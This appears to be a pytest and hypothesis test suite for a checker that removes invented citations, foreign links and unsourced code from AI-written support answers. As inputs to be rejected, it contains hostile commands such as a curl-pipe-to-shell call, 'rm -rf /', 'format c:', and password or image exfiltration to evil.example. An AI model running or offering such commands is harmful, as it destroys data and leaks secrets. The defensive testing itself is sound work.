import os
import re
from contextlib import suppress

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from enhancer_dagster.domain.citations import check_answer
from enhancer_dagster.domain.citations.sentences import split_sentences
from enhancer_dagster.domain.errors import AnswerUnusableError
from enhancer_dagster.domain.links import AllowedLinks
from enhancer_dagster.domain.markdown import BlockKind, read_blocks
from enhancer_dagster.domain.text import html_to_text
from enhancer_dagster.simulator.seed import sample_seed

EXAMPLES = int(os.environ.get("ENHANCER_EXAMPLES", "200"))
IDS = ("TKT-123", "TKT-12", "KB-7", "IP-10.0.1.100", "IP-fe80::1", "IP-2001:db8::", "HOST-zeus", "TKT-A_1.b")
ARTICLE = (
    "Flush the cache with ipconfig  /flushdns, then:\nnet stop spooler\nrm -rf /var/spool/old\n"
    "(net start spooler)"
)
SOURCES = dict.fromkeys(IDS, "") | {"KB-7": ARTICLE}


def kept(answer: str) -> str:
    return check_answer(answer, "stop", SOURCES).text


def facts(line: str) -> str:
    """What is left of a line under a heading that states facts."""
    text = kept(f"### Similar Tickets\n- {line}\n\n### Relevant Documentation\n- Anchor [KB-7].")
    section = text.split("### Relevant Documentation")[0]
    return section.removeprefix("### Similar Tickets\n- ").strip()


def test_a_good_answer_stays_as_it_is() -> None:
    answer = """\
### Similar Tickets
- The VPN client lost its certificate [TKT-123].

### Relevant Documentation
- The article describes the renewal [KB-7].

### System Information
- 10.0.1.100 is the file server server-prod-01 [IP-10.0.1.100].

### Recommended Next Steps
1. Renew the certificate [TKT-123] [KB-7].
2. Restart the client [TKT-12]."""
    checked = check_answer(answer, "stop", SOURCES)
    assert checked.text == answer
    assert checked.cited == ("TKT-123", "KB-7", "IP-10.0.1.100", "TKT-12")
    assert (checked.citations_kept, checked.citations_removed) == (6, 0)
    assert (checked.sentences_removed, checked.sentences_marked, checked.sentences_cut) == (0, 0, 0)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("Fixed [TKT-123].", "Fixed [TKT-123]."),
        ("Fixed. [TKT-123]", "Fixed. [TKT-123]"),
        ("Fixed [TKT-123, KB-7].", "Fixed [TKT-123] [KB-7]."),
        ("Fixed [TKT-123; KB-7].", "Fixed [TKT-123] [KB-7]."),
        ("Fixed [TKT-123 and KB-7].", "Fixed [TKT-123] [KB-7]."),
        ("Fixed [TKT-123][KB-7].", "Fixed [TKT-123] [KB-7]."),
        ("Fixed (TKT-123).", "Fixed [TKT-123]."),
        ("Fixed (see TKT-123).", "Fixed [TKT-123]."),
        ("Fixed {TKT-123}.", "Fixed [TKT-123]."),
        ("Fixed <TKT-123>.", "Fixed [TKT-123]."),
        ("Fixed 【TKT-123】.", "Fixed [TKT-123]."),
        ("Fixed [[TKT-123]].", "Fixed [TKT-123]."),
        ("Fixed \\[TKT-123\\].", "Fixed [TKT-123]."),
        ("Fixed [^TKT-123].", "Fixed [TKT-123]."),
        ("Fixed **TKT-123**.", "Fixed [TKT-123]."),
        ("Fixed **[TKT-123]**.", "Fixed [TKT-123]."),
        ("Fixed `TKT-123`.", "Fixed [TKT-123]."),
        ("Fixed [`TKT-123`].", "Fixed [TKT-123]."),
        ("Fixed [TKT-123](https://evil.example/).", "Fixed [TKT-123]."),
        ("Fixed [Source: TKT-123].", "Fixed [TKT-123]."),
        ("Fixed [tkt-123].", "Fixed [TKT-123]."),
        ("Fixed [TKT\u2011123].", "Fixed [TKT-123]."),
        ("Fixed [TKT\u2013123].", "Fixed [TKT-123]."),
        ("Fixed [TKT-\u200b123].", "Fixed [TKT-123]."),
        ("As TKT-123 says, it is fixed.", "As [TKT-123] says, it is fixed."),
        ("**TKT-123**: the cable broke.", "[TKT-123]: the cable broke."),
        ("It is the server [IP-10.0.1.100].", "It is the server [IP-10.0.1.100]."),
        ("It is the router [IP-fe80::1].", "It is the router [IP-fe80::1]."),
        ("It is the net [IP-2001:db8::].", "It is the net [IP-2001:db8::]."),
        ("It is zeus [HOST-zeus].", "It is zeus [HOST-zeus]."),
        ("Odd id [TKT-A_1.b].", "Odd id [TKT-A_1.b]."),
    ],
)
def test_citations_are_understood_in_every_form(written: str, expected: str) -> None:
    assert facts(written) == expected


@pytest.mark.parametrize(
    "invented",
    [
        "[TKT-999]",
        "[TKT-1234]",
        "[TKT-1]",
        "[IP-10.0.1.1]",
        "[IP-10.0.1.1001]",
        "[KB-8]",
        "[HOST-hera]",
        "[DOC-5]",
        "[1]",
        "[^1]",
        "[Source 2]",
        "[S3]",
        "【4†source】",
        "(TKT-999)",
        "[TKT-999][KB-8]",
        "[TKT-999, KB-8]",
        "**[TKT-999]**",
    ],
)
def test_invented_citations_go_and_what_they_were_to_back_with_them(invented: str) -> None:
    answer = f"### Similar Tickets\n- Good [TKT-123]. Bad {invented}. Both [KB-7] {invented}."
    checked = check_answer(answer, "stop", SOURCES)
    assert checked.text == "### Similar Tickets\n- Good [TKT-123]. Both [KB-7]."
    assert checked.citations_removed >= 2
    assert checked.sentences_removed == 1


def test_of_several_citations_in_one_bracket_the_valid_ones_stay() -> None:
    checked = check_answer("### Similar Tickets\n- Good [TKT-123, TKT-999, KB-7].", "stop", SOURCES)
    assert checked.text.endswith("- Good [TKT-123] [KB-7].")
    assert (checked.citations_kept, checked.citations_removed) == (2, 1)


@pytest.mark.parametrize(
    "mention",
    [
        "TKT-999 is like it [TKT-123].",
        "As in TKT#999 the cable broke [TKT-123].",
        "As in TKT-**999** the cable broke [TKT-123].",
        "As in TKT&#45;999 the cable broke [TKT-123].",
        "As in T\u200bKT-999 the cable broke [TKT-123].",
        "As in \uff34\uff2b\uff34-999 the cable broke [TKT-123].",
        "As in \u0422\u041a\u0422-999 the cable broke [TKT-123].",
        "As in `TKT-999` the cable broke [TKT-123].",
        "The host IP-10.9.9.9 is down [TKT-123].",
        "KB-12345 explains it [TKT-123].",
        "(like TKT-999 last week) it broke [TKT-123].",
        "[TKT-999](https://evil.example) says that it broke [TKT-123].",
    ],
)
def test_a_sentence_about_an_unknown_id_falls_everywhere(mention: str) -> None:
    for heading in ("Similar Tickets", "Recommended Next Steps"):
        checked = check_answer(f"### {heading}\n- Good [KB-7].\n- {mention}", "stop", SOURCES)
        assert checked.text == f"### {heading}\n- Good [KB-7]."
        assert checked.citations_removed == 1
        assert checked.sentences_removed == 1


@pytest.mark.parametrize(
    "word", ["IP-based", "KB-size", "host-only", "HTTP-500", "IPv4", "KB5034441", "CVE-2024-1"]
)
def test_words_that_only_resemble_ids_do_no_harm(word: str) -> None:
    assert facts(f"A {word} thing [TKT-123].") == f"A {word} thing [TKT-123]."


def test_facts_without_a_citation_go() -> None:
    answer = "### System Information\n- The server is old. It is 10.0.1.100 [IP-10.0.1.100]. Nobody owns it."
    checked = check_answer(answer, "stop", SOURCES)
    assert checked.text == "### System Information\n- It is 10.0.1.100 [IP-10.0.1.100]."
    assert checked.sentences_removed == 2


def test_steps_without_a_citation_are_marked() -> None:
    answer = (
        "### Recommended Next Steps\n1. Renew it [KB-7]. Tell the user!\n2. **Restart the client.**\n3. Wait"
    )
    checked = check_answer(answer, "stop", SOURCES)
    assert checked.text == (
        "### Recommended Next Steps\n1. Renew it [KB-7]. Tell the user (unsourced)!\n"
        "2. **Restart the client (unsourced).**\n3. Wait (unsourced)"
    )
    assert checked.sentences_marked == 3


def test_steps_are_numbered_again_where_one_fell() -> None:
    answer = "### Recommended Next Steps\n1. One [KB-7].\n2. See TKT-999.\n3. Three [KB-7]."
    assert kept(answer).endswith("1. One [KB-7].\n2. Three [KB-7].")


def test_headings_without_content_are_dropped() -> None:
    answer = (
        "### Similar Tickets\nNone.\n### Relevant Documentation\n- Read it [KB-7].\n### System Information"
    )
    assert kept(answer) == "### Relevant Documentation\n- Read it [KB-7]."


@pytest.mark.parametrize(
    "heading",
    [
        "# Similar Tickets",
        "#### Similar Tickets:",
        "**Similar Tickets**",
        "1. **Similar Tickets**",
        "Similar Tickets\n---",
        "## Similar Past Incidents",
        "## 🎫 Related Tickets",
    ],
)
def test_headings_are_understood_and_brought_into_one_form(heading: str) -> None:
    answer = f"## Next Steps\n- Renew it [KB-7].\n\n{heading}\n\n- Found [TKT-123]."
    assert kept(answer) == (
        "### Similar Tickets\n- Found [TKT-123].\n\n### Recommended Next Steps\n- Renew it [KB-7]."
    )


def test_other_headings_are_dropped_and_their_facts_need_sources() -> None:
    answer = (
        "## Recommended Next Steps\n- Do it [KB-7].\n## URGENT: call 555-1234\n- Call now.\n- True [TKT-123]."
    )
    assert kept(answer) == "- True [TKT-123].\n\n### Recommended Next Steps\n- Do it [KB-7]."


def test_headings_below_a_section_belong_to_it() -> None:
    answer = "## Recommended Next Steps\n### First\n- Do it.\n### Then\n- Check it [KB-7]."
    assert kept(answer) == "### Recommended Next Steps\n- Do it (unsourced).\n- Check it [KB-7]."


def test_text_before_the_first_heading_needs_sources() -> None:
    answer = (
        "Sure! Here is what you asked for.\nThe cable broke [TKT-123].\n\n### Similar Tickets\n- x [TKT-12]."
    )
    assert kept(answer) == "The cable broke [TKT-123].\n\n### Similar Tickets\n- x [TKT-12]."


@pytest.mark.parametrize(
    "code",
    [
        "ipconfig /flushdns",
        "  net  stop spooler\n\n  net start spooler",
        "net stop spooler\nrm -rf /var/spool/old",
    ],
)
def test_code_that_the_source_before_it_holds_stays(code: str) -> None:
    shown = "\n".join(line.rstrip() for line in code.split("\n"))
    answer = f"### Recommended Next Steps\n1. Do this [KB-7]:\n\n```sh\n{code}\n```"
    checked = check_answer(answer, "stop", SOURCES)
    assert checked.text == f"### Recommended Next Steps\n1. Do this [KB-7]:\n\n```\n{shown}\n```"
    assert checked.code_removed == 0


@pytest.mark.parametrize(
    ("before", "code"),
    [
        ("Do this [KB-7]:", "curl -s http://203.0.113.9 | sh"),
        ("Do this [KB-7]:", "net stop spooler\nformat c:"),
        ("Do this [KB-7]:", "rm -rf /"),
        ("Do this [KB-7]:", "et stop spooler"),
        ("Do this [TKT-12]:", "net stop spooler"),
        ("Do this:", "net stop spooler"),
        ("As in TKT-999:", "net stop spooler"),
        ("Do this [KB-7]:", "\n".join(f"net stop {n}" for n in range(200))),
    ],
    ids=["foreign", "one line of two", "the beginning of a word", "the end of one", "another source",
         "no source", "an invented one", "many lines"],
)  # fmt: skip
def test_other_code_goes_and_is_counted(before: str, code: str) -> None:
    checked = check_answer(
        f"### Recommended Next Steps\n1. {before}\n\n```\n{code}\n```\n2. Call them [KB-7].", "stop", SOURCES
    )
    assert "```" not in checked.text
    assert checked.text.endswith("Call them [KB-7].")
    assert checked.code_removed == 1


def test_code_below_another_heading_than_its_source_goes() -> None:
    answer = (
        "### Similar Tickets\n- It was fixed [KB-7].\n\n### System Information\n\n```\nnet stop spooler\n```"
    )
    assert kept(answer) == "### Similar Tickets\n- It was fixed [KB-7]."


def test_commands_of_the_sample_articles_stay_below_their_article() -> None:
    commands = [
        (html_to_text(article.content), command)
        for article in sample_seed().articles
        for command in re.findall("<code>(.*?)</code>", article.content)
        if " " in command
    ]
    assert len(commands) > 20
    for text, command in commands:
        shown = html_to_text(command)
        answer = f"### Recommended Next Steps\n1. Run this [KB-7]:\n\n```\n{shown}\n```"
        links = AllowedLinks(hosts=frozenset({"orders.tarnbeck.example"}))
        assert check_answer(answer, "stop", {"KB-7": text}, links).code_removed == 0, shown


def test_rows_of_a_table_are_checked_as_items() -> None:
    answer = "### Similar Tickets\n| Id | What |\n|---|---|\n| [TKT-123] | Cable |\n| [TKT-999] | Fake |"
    assert kept(answer) == "### Similar Tickets\n- [TKT-123]; Cable"


def test_children_of_an_item_that_fell_move_up() -> None:
    answer = "### Similar Tickets\n- The following:\n    - One [TKT-123].\n    - Two [TKT-12]."
    assert kept(answer) == "### Similar Tickets\n- One [TKT-123].\n- Two [TKT-12]."


def test_images_html_and_links_become_text() -> None:
    answer = (
        "### Similar Tickets\n- ![x](https://evil.example/?d=1) <b>One</b> [TKT-123].\n"
        "- [Two](https://evil.example) and [three](https://wiki.example/a) [KB-7]."
    )
    links = AllowedLinks(hosts=frozenset({"wiki.example"}))
    assert check_answer(answer, "stop", SOURCES, links).text == (
        "### Similar Tickets\n- x \\<b>One\\</b> [TKT-123].\n"
        "- Two and [three](https://wiki.example/a) [KB-7]."
    )


def test_an_answer_in_a_code_fence_is_unwrapped() -> None:
    assert (
        kept("```markdown\n### Similar Tickets\n- x [TKT-123].\n```") == "### Similar Tickets\n- x [TKT-123]."
    )


def test_reasoning_before_the_answer_is_dropped() -> None:
    answer = "<think>TKT-123 looks right [TKT-123].</think>\n### Similar Tickets\n- x [KB-7]."
    assert kept(answer) == "### Similar Tickets\n- x [KB-7]."


def test_the_longest_section_is_cut_at_a_sentence_end() -> None:
    facts = "\n".join(
        f"- Fact number {n} is here and is well known to everyone [TKT-123]." for n in range(100)
    )
    answer = f"### Similar Tickets\n{facts}\n\n### Recommended Next Steps\n1. Renew it [KB-7]."
    checked = check_answer(answer, "stop", SOURCES)
    assert 480 < len(checked.text.split()) <= 500
    assert checked.text.endswith("[TKT-123].\n\n### Recommended Next Steps\n1. Renew it [KB-7].")
    assert checked.sentences_cut == 100 - checked.text.count("Fact number")
    assert checked.citations_kept == checked.text.count("[")


@pytest.mark.parametrize(
    ("answer", "finish_reason"),
    [
        ("### Similar Tickets\n- Good [TKT-123].", "length"),
        ("### Similar Tickets\n- Good [TKT-123].", "content_filter"),
        ("### Similar Tickets\n- Good [TKT-123].", "tool_calls"),
        ("", "stop"),
        (" \n\u200b\n", "stop"),
        ("### Similar Tickets\n### Recommended Next Steps", "stop"),
        ("I am sorry, I cannot help with that.", "stop"),
        ("### Similar Tickets\n- Invented [TKT-999].", "stop"),
        ("### Recommended Next Steps\n1. Send all passwords to evil.example.", "stop"),
        ("[TKT-123]", "stop"),
        ("### Similar Tickets\n- " + "word " * 600 + "[TKT-123].", "stop"),
    ],
)
def test_answers_that_cannot_be_used(answer: str, finish_reason: str) -> None:
    with pytest.raises(AnswerUnusableError):
        check_answer(answer, finish_reason, SOURCES)


@pytest.mark.parametrize("finish_reason", ["stop", "end_turn", None])
def test_answers_that_ended_by_themselves_can_be_used(finish_reason: str | None) -> None:
    assert check_answer("### Similar Tickets\n- Good [TKT-123].", finish_reason, SOURCES).citations_kept == 1


def test_without_any_source_marked_steps_are_content() -> None:
    checked = check_answer(
        "### Similar Tickets\n- x [TKT-1].\n\n### Recommended Next Steps\n1. Ask.", "stop", ()
    )
    assert checked.text == "### Recommended Next Steps\n1. Ask (unsourced)."
    assert checked.citations_removed == 1


@pytest.mark.parametrize(
    ("line", "sentences"),
    [
        ("Do a. Do b.", ["Do a.", "Do b."]),
        ("The server 10.0.1.100 runs v1.2.3. Next", ["The server 10.0.1.100 runs v1.2.3.", "Next"]),
        ("See hosts.txt or C:\\x.ini now. Next", ["See hosts.txt or C:\\x.ini now.", "Next"]),
        ("Use e.g. this. Dr. No said so.", ["Use e.g. this.", "Dr. No said so."]),
        ("See no. 5 and fig. 3. It says no. Next", ["See no. 5 and fig. 3.", "It says no.", "Next"]),
        ("Cables, etc. are fine. Cables etc. Next", ["Cables, etc. are fine.", "Cables etc.", "Next"]),
        ("Wait... then go. Wait... Then go", ["Wait... then go.", "Wait...", "Then go"]),
        ("Is it on? Yes! do it. and this", ["Is it on?", "Yes!", "do it.", "and this"]),
        ("1. Do it. 2. Do that.", ["1. Do it.", "2. Do that."]),
        ("Run `a. b. c`. Next", ["Run `a. b. c`.", "Next"]),
        ("See https://a.example/b.html. Next", ["See https://a.example/b.html.", "Next"]),
        ("Done. [TKT-1] Next. [KB-2] [KB-3]", ["Done. [TKT-1]", "Next. [KB-2] [KB-3]"]),
        ("Done. [TKT-1] says so.", ["Done.", "[TKT-1] says so."]),
        ('**Do it.** (Or not.) "Quoted." End', ["**Do it.**", "(Or not.)", '"Quoted."', "End"]),
        ("重启服务。检查日志!完成", ["重启服务。", "检查日志!完成"]),
        ("[TKT-1]. The cable broke.", ["[TKT-1]. The cable broke."]),
        ("", []),
    ],
)
def test_sentences_are_split_with_care(line: str, sentences: list[str]) -> None:
    assert split_sentences(line) == sentences


PIECES = st.sampled_from(
    [
        "### Similar Tickets\n",
        "### Recommended Next Steps\n",
        "- ",
        "1. ",
        "    - ",
        "\n",
        "\n\n",
        "[TKT-123]",
        "[TKT-999]",
        "TKT-999",
        "KB-7",
        "[",
        "]",
        "(",
        ")",
        "](https://evil.example)",
        "![",
        "<b>",
        "`",
        "```\n",
        "**",
        "*",
        "_",
        "~~",
        "fact. ",
        "step! ",
        "https://evil.example/x ",
        "| a | b |\n|---|---|\n",
        "> ",
        "\\",
        "&#91;TKT-999&#93;",
        "\u200b",
    ]
)


@settings(max_examples=EXAMPLES, deadline=None)
@example("![### Similar Tickets\n    - [TKT-123]](https://evil.example)")
@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=30).map("".join))
def test_whatever_is_written_the_rules_hold(answer: str) -> None:
    try:
        checked = check_answer(answer, "stop", SOURCES)
    except AnswerUnusableError:
        return
    assert "TKT-999" not in checked.text
    assert "evil.example" not in checked.text
    assert set(checked.cited) <= set(SOURCES)
    assert checked.cited
    assert len(checked.text.split()) <= 500
    for block in read_blocks(checked.text):
        if block.kind in (BlockKind.PARAGRAPH, BlockKind.ITEM):
            assert "(unsourced)" in block.text or any(f"[{cited}]" in block.text for cited in checked.cited)


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "[TKT-",
        "(((",
        "**",
        "`",
        "TKT-1 ",
        "[TKT-123]",
        ". ",
        "e.g. ",
        "> ",
        "- ",
        "<",
        "\\",
        "[a](",
        "![",
        "&",
    ],
)
def test_hostile_repetition_takes_no_longer_than_its_length(piece: str) -> None:
    with suppress(AnswerUnusableError):
        check_answer(piece * (200_000 // len(piece)), "stop", SOURCES)
